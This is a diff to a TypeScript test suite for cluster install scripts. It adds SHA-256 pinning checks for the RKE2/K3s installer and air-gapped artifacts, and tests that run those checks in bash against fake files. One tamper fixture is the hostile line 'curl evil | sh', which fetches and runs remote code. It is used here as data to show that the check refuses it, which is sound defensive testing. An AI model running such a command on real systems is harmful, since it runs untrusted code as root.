@@ -1,4 +1,5 @@
 import { spawnSync } from "node:child_process";
+import { createHash } from "node:crypto";
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import * as os from "node:os";
 import * as path from "node:path";
@@ -8,6 +9,10 @@ import {
   type BareMetalClusterArgs,
 } from "../../../../../components/cluster/baremetal";
 import { node, resolve } from "./fixtures";
+
+const PIN_SCRIPT = "a".repeat(64);
+const PIN_SUMS = "b".repeat(64);
+const sha256 = (text: string) => createHash("sha256").update(text).digest("hex");
 
 /**
  * shellcheck findings for many scripts in one run ("" when clean); fails loudly when shellcheck is
@@ -41,7 +46,22 @@ describe("scripts", () => {
       { cis: true, install: { mode: "airgap", mirrorUrl: "https://mirror.example.net/rke2/{version}/" } },
     ],
     ["rke2 air-gapped from a folder", { install: { mode: "airgap", artifactsDir: "./artifacts" } }],
+    [
+      "rke2 air-gapped, pinned",
+      {
+        install: {
+          mode: "airgap",
+          mirrorUrl: "https://mirror.example.net/rke2/{version}",
+          scriptSha256: PIN_SCRIPT,
+          checksumsSha256: PIN_SUMS,
+        },
+      },
+    ],
     ["k3s online", { distribution: "k3s", version: "v1.31.4+k3s1" }],
+    [
+      "k3s online, pinned",
+      { distribution: "k3s", version: "v1.31.4+k3s1", install: { scriptSha256: PIN_SCRIPT } },
+    ],
     [
       "k3s air-gapped arm64",
       {
@@ -152,6 +172,162 @@ describe("scripts", () => {
     expect(text).toContain(
       `INSTALL_K3S_SKIP_DOWNLOAD=true INSTALL_K3S_EXEC='agent' INSTALL_K3S_SKIP_START=true sh "$artifacts/install.sh"`,
     );
+  });
+
+  it("online with a pinned script: the node checks the download before running it", () => {
+    const c = resolve({ install: { scriptSha256: PIN_SCRIPT.toUpperCase() } });
+    const text = scripts.installScript(c, node(c, "a1"));
+    expect(text).toContain(
+      [
+        '  installer="$(mktemp)"',
+        "  curl -sfL --retry 3 -o \"$installer\" 'https://get.rke2.io'",
+        `  verify_sha256 "$installer" '${PIN_SCRIPT}' 'https://get.rke2.io' 'install.scriptSha256'`,
+        `  INSTALL_RKE2_VERSION="$version" INSTALL_RKE2_TYPE='agent' sh "$installer"`,
+        '  rm -f "$installer"',
+      ].join("\n"),
+    );
+    expect(scripts.installScript(resolve(), node(c, "a1"))).not.toContain('verify_sha256 "$installer"');
+  });
+
+  it("air-gapped: the pinned checksum file, the pinned install.sh, then every other artifact against the checksum file, before installing", () => {
+    const c = resolve({
+      install: {
+        mode: "airgap",
+        mirrorUrl: "https://mirror.example.net/rke2/{version}/",
+        scriptSha256: PIN_SCRIPT,
+        checksumsSha256: PIN_SUMS,
+      },
+    });
+    const text = scripts.installScript(c, node(c, "s1"));
+    expect(text).toContain(
+      [
+        "  sums=\"$artifacts/\"'sha256sum-amd64.txt'",
+        `  verify_sha256 "$sums" '${PIN_SUMS}' "$origin/"'sha256sum-amd64.txt' 'install.checksumsSha256'`,
+        `  verify_sha256 "$artifacts/install.sh" '${PIN_SCRIPT}' "$origin/install.sh" 'install.scriptSha256'`,
+        "  for f in 'rke2.linux-amd64.tar.gz' 'rke2-images.linux-amd64.tar.zst'; do",
+        `    expected="$(awk -v f="$f" '$2 == f || $2 == "*" f {print $1; exit}' "$sums")"`,
+        '    if [ -z "$expected" ]; then echo "$origin/sha256sum-amd64.txt lists no sha256 for $f: use the checksum file of release $version" >&2; exit 1; fi',
+        `    verify_sha256 "$artifacts/$f" "$expected" "$origin/$f" 'sha256sum-amd64.txt'`,
+        "  done",
+        "  install -d -m 0755 '/var/lib/rancher/rke2/agent/images'",
+      ].join("\n"),
+    );
+    expect(text).toContain("  origin='https://mirror.example.net/rke2/v1.31.4+rke2r1'");
+    expect(text.indexOf('verify_sha256 "$artifacts/$f"')).toBeLessThan(
+      text.indexOf('sh "$artifacts/install.sh"'),
+    );
+    const k3s = resolve({
+      distribution: "k3s",
+      version: "v1.31.4+k3s1",
+      install: { mode: "airgap", artifactsDir: "./a/", arch: "arm64" },
+    });
+    const k3sText = scripts.installScript(k3s, node(k3s, "a1"));
+    expect(k3sText).toContain("  origin='./a'");
+    expect(k3sText).toContain("for f in 'k3s-arm64' 'k3s-airgap-images-arm64.tar.zst'; do");
+    expect(k3sText).not.toContain('verify_sha256 "$sums"');
+  });
+
+  describe("the checksum checks, run on fake artifacts", () => {
+    /**
+     * Runs the rendered checks of a pinned air-gapped RKE2 install (the lines from `sums=` to the
+     * loop's end, with verify_sha256) on a folder holding `files`.
+     */
+    const runChecks = (files: Record<string, string>, pins: { script: string; sums: string }) => {
+      const dir = mkdtempSync(path.join(os.tmpdir(), "artifacts-"));
+      try {
+        for (const [f, text] of Object.entries(files)) writeFileSync(path.join(dir, f), text);
+        const c = resolve({
+          install: {
+            mode: "airgap",
+            mirrorUrl: "https://mirror.example.net/rke2/{version}",
+            scriptSha256: pins.script,
+            checksumsSha256: pins.sums,
+          },
+        });
+        const lines = scripts.installScript(c, node(c, "s1")).split("\n");
+        const from = lines.findIndex((l) => l.startsWith("  sums="));
+        const to = lines.findIndex((l, i) => i > from && l === "  done");
+        const verify = lines.slice(
+          lines.indexOf("verify_sha256() {"),
+          lines.indexOf("}", lines.indexOf("verify_sha256() {")) + 1,
+        );
+        const script = [
+          "set -euo pipefail",
+          ...verify,
+          `artifacts=${scripts.shq(dir)}`,
+          "origin='https://mirror.example.net/rke2/v1.31.4+rke2r1'",
+          "version='v1.31.4+rke2r1'",
+          ...lines.slice(from, to + 1),
+        ].join("\n");
+        const r = spawnSync("bash", ["-c", script], { encoding: "utf8" });
+        return { status: r.status, stdout: r.stdout, stderr: r.stderr };
+      } finally {
+        rmSync(dir, { recursive: true, force: true });
+      }
+    };
+    const release = {
+      "install.sh": "#!/bin/sh\necho install\n",
+      "rke2.linux-amd64.tar.gz": "tarball",
+      "rke2-images.linux-amd64.tar.zst": "images",
+    };
+    const sumsOf = (files: Record<string, string>) =>
+      Object.entries(files)
+        .map(([f, t]) => `${sha256(t)}  ${f}\n`)
+        .join("");
+    const good = {
+      ...release,
+      "sha256sum-amd64.txt": sumsOf({
+        "rke2.linux-amd64.tar.gz": "tarball",
+        "rke2-images.linux-amd64.tar.zst": "images",
+      }),
+    };
+    const pins = { script: sha256(release["install.sh"]), sums: sha256(good["sha256sum-amd64.txt"]) };
+    const URL = "https://mirror.example.net/rke2/v1.31.4+rke2r1";
+
+    it("passes a release that matches its pins", () => {
+      expect(runChecks(good, pins)).toEqual({
+        status: 0,
+        stdout: [
+          `sha256 of ${URL}/sha256sum-amd64.txt matches install.checksumsSha256`,
+          `sha256 of ${URL}/install.sh matches install.scriptSha256`,
+          `sha256 of ${URL}/rke2.linux-amd64.tar.gz matches sha256sum-amd64.txt`,
+          `sha256 of ${URL}/rke2-images.linux-amd64.tar.zst matches sha256sum-amd64.txt`,
+          "",
+        ].join("\n"),
+        stderr: "",
+      });
+    });
+
+    it("refuses a tampered artifact, naming its URL, the expected and the actual digest", () => {
+      const r = runChecks({ ...good, "rke2-images.linux-amd64.tar.zst": "evil" }, pins);
+      expect(r.status).toBe(1);
+      expect(r.stderr).toBe(
+        `refusing to run ${URL}/rke2-images.linux-amd64.tar.zst as root: its sha256 is ${sha256("evil")}, expected ${sha256("images")} (sha256sum-amd64.txt); check the file at its source, then correct it or the pin\n`,
+      );
+    });
+
+    it("refuses a checksum file or install script that does not match its pin", () => {
+      const badSums = sumsOf({ "rke2.linux-amd64.tar.gz": "x" });
+      const sums = runChecks({ ...good, "sha256sum-amd64.txt": badSums }, pins);
+      expect(sums.status).toBe(1);
+      expect(sums.stderr).toContain(
+        `refusing to run ${URL}/sha256sum-amd64.txt as root: its sha256 is ${sha256(badSums)}, expected ${pins.sums} (install.checksumsSha256)`,
+      );
+      const script = runChecks({ ...good, "install.sh": "#!/bin/sh\ncurl evil | sh\n" }, pins);
+      expect(script.status).toBe(1);
+      expect(script.stderr).toContain(
+        `refusing to run ${URL}/install.sh as root: its sha256 is ${sha256("#!/bin/sh\ncurl evil | sh\n")}, expected ${pins.script} (install.scriptSha256)`,
+      );
+    });
+
+    it("refuses an artifact the checksum file does not list", () => {
+      const sums = sumsOf({ "rke2.linux-amd64.tar.gz": "tarball" });
+      const r = runChecks({ ...good, "sha256sum-amd64.txt": sums }, { ...pins, sums: sha256(sums) });
+      expect(r.status).toBe(1);
+      expect(r.stderr).toBe(
+        `${URL}/sha256sum-amd64.txt lists no sha256 for rke2-images.linux-amd64.tar.zst: use the checksum file of release v1.31.4+rke2r1\n`,
+      );
+    });
   });
 
   it("waits for Ready on the pinned version (an upgrade is not done while the old kubelet still reports Ready), with a deadline and a clear failure message", () => {
